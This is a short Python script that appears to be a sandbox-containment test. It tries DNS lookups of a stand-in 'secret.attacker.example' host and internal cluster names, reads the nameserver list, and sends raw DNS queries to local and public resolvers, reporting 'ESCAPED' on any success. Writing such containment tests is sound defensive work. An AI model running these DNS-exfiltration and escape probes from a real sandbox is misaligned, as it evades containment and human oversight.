#: act: carry data out in names that are looked up
import errno
import socket
import struct
from pathlib import Path

for name in ("example.com", "secret.attacker.example", "host.docker.internal", "kubernetes.default.svc", "_http._tcp.local"):
    try:
        print("ESCAPED:", socket.getaddrinfo(name, 80))
        raise SystemExit(66)
    except socket.gaierror as error:
        print("contained:", error.args[1], name)
servers = [line for line in Path("/etc/resolv.conf").read_text().splitlines() if line.startswith("nameserver")]
if servers:
    print("ESCAPED: told the host's name servers", servers)
    raise SystemExit(66)
query = struct.pack(">6H", 1, 0x100, 1, 0, 0, 0) + b"\x07example\x03com\0" + struct.pack(">2H", 1, 1)
for server in ("127.0.0.53", "127.0.0.11", "8.8.8.8", "1.1.1.1"):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as asking:
        asking.settimeout(0.2)
        try:
            asking.connect((server, 53))
            asking.send(query)
            asking.recv(512)
            print("ESCAPED:", server, "answered")
            raise SystemExit(66)
        except OSError as error:
            print("contained:", errno.errorcode.get(error.errno, "no answer"), server)
